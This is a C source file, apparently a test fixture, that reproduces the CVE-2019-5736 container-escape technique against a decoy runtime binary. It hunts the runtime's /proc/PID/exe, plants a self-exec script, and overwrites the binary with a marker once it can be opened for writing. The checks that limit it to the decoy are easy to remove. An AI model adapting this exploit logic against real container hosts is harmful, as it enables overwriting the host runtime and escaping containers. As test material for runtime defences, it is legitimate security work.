/* CVE-2019-5736 attacker, compiled static by test_exe_overwrite.py and run inside a container.
 * It grabs /proc/PID/exe of the runtime's processes (O_PATH, which a running binary allows),
 * then reopens that handle for writing until the runtime has exited and writes a marker.
 * It only ever writes to the decoy copy the test names (--target) or to a husk memfd. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char *log_path;

static void say(const char *fmt, ...)
{
    char line[512];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(line, sizeof line - 1, fmt, ap);
    va_end(ap);
    line[n++] = '\n';
    int fd = open(log_path, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
    if (fd >= 0) {
        write(fd, line, n);
        close(fd);
    }
}

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

#define MAX_GRAB 64
static struct { int pid, fd; char link[256]; } grabbed[MAX_GRAB];
static int n_grabbed;

static void try_grab(int pid, const char *target)
{
    for (int i = 0; i < n_grabbed; i++)
        if (grabbed[i].pid == pid)
            return;
    char path[64], link[256];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t n = readlink(path, link, sizeof link - 1);
    if (n < 0)
        return;
    link[n] = '\0';
    /* only the decoy or a husk memfd: never any other file on the host */
    if (strcmp(link, target) != 0 && strncmp(link, "/memfd:husk", 11) != 0)
        return;
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0 || n_grabbed == MAX_GRAB)
        return;
    grabbed[n_grabbed].pid = pid;
    grabbed[n_grabbed].fd = fd;
    snprintf(grabbed[n_grabbed].link, sizeof grabbed[n_grabbed].link, "%s", link);
    n_grabbed++;
    say("grabbed %d %s", pid, link);
}

int main(int argc, char **argv)
{
    const char *target = NULL, *fifo = NULL, *script = NULL;
    int pid = 0;
    double seconds = 5;
    for (int i = 1; i + 1 < argc; i += 2) {
        if (!strcmp(argv[i], "--target")) target = argv[i + 1];
        else if (!strcmp(argv[i], "--fifo")) fifo = argv[i + 1];
        else if (!strcmp(argv[i], "--script")) script = argv[i + 1];
        else if (!strcmp(argv[i], "--pid")) pid = atoi(argv[i + 1]);
        else if (!strcmp(argv[i], "--seconds")) seconds = atof(argv[i + 1]);
        else if (!strcmp(argv[i], "--log")) log_path = argv[i + 1];
    }
    if (!target || !log_path)
        return 2;
    if (fifo && mkfifo(fifo, 0666) < 0 && errno != EEXIST)
        say("mkfifo: %s", strerror(errno));
    if (script) {
        /* the operator's next `exec SCRIPT` runs the runtime itself again */
        char text[256];
        snprintf(text, sizeof text, "#!/proc/self/exe --log=%s\n", fifo ? fifo : "/dev/null");
        unlink(script);
        int fd = open(script, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
        if (fd < 0 || write(fd, text, strlen(text)) < 0)
            say("script: %s", strerror(errno));
        close(fd);
    }
    say("ready");
    int fifo_fd = -1;
    double end = now() + seconds;
    int self = getpid();
    while (now() < end) {
        if (pid) {
            try_grab(pid, target);
        } else {
            DIR *d = opendir("/proc");
            struct dirent *e;
            while (d && (e = readdir(d))) {
                int p = atoi(e->d_name);
                if (p > 0 && p != self)
                    try_grab(p, target);
            }
            if (d)
                closedir(d);
        }
        /* a runtime blocked opening its --log fifo goes on (and exits) once we read it */
        if (n_grabbed && fifo && fifo_fd < 0)
            fifo_fd = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        for (int i = 0; i < n_grabbed; i++) {
            if (grabbed[i].fd < 0)
                continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", grabbed[i].fd);
            int w = open(path, O_WRONLY | O_CLOEXEC);
            if (w < 0) {
                if (errno != ETXTBSY) {
                    say("reopen %s for writing: %s", grabbed[i].link, strerror(errno));
                    close(grabbed[i].fd);
                    grabbed[i].fd = -1;
                }
                continue;
            }
            static const char marker[] = "#!/bin/sh\necho PWNED\n";
            if (pwrite(w, marker, sizeof marker - 1, 0) == (ssize_t)sizeof marker - 1) {
                say("WROTE %s", grabbed[i].link);
                say("done");
                return 0;
            }
            say("write %s: %s", grabbed[i].link, strerror(errno));
            close(w);
            close(grabbed[i].fd);
            grabbed[i].fd = -1;
        }
        if (fifo_fd >= 0) {
            char buf[4096];
            while (read(fifo_fd, buf, sizeof buf) > 0)
                ;
        }
        usleep(1000);
    }
    say("done");
    return 0;
}
